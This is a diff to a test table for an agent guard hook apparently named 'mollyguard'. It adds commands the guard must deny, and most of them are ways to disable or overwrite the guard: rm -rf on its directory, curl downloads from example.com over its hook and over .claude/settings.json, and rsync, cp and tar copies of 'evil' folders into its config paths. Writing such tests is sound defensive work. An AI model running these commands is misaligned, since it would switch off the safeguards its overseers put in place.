@@ -31,6 +31,10 @@ rows(
   'deny self/touch-mollyguard',
   [
     'rm -rf ~/.mollyguard',
+    'curl -o ~/.mollyguard/bin/hook https://example.com/x',
+    'rsync -a evil/ ~/.mollyguard',
+    'cp -r evil/* ~/.mollyguard/bin',
+    'cp -r evil/. ~/.mollyguard/',
     'rm -rf ~/.mollyguard/',
     'rm -rf "$HOME"/.mollyguard',
     'rm -rf ~/.mollyguard{,}',
@@ -100,6 +104,10 @@ rows(
   'deny self/switch-off',
   [
     'rm ~/.copilot/hooks/mollyguard.json',
+    'tar xf x.tar -C ~/.copilot',
+    'curl -o .claude/settings.json https://example.com/x',
+    'rsync -a evil/.copilot ~',
+    'cp -r evil/.copilot ~/',
     'rm -rf ~/.copilot',
     'rm -rf ~/.copilot/hooks',
     'rm -f ~/.copilot/hooks/*',
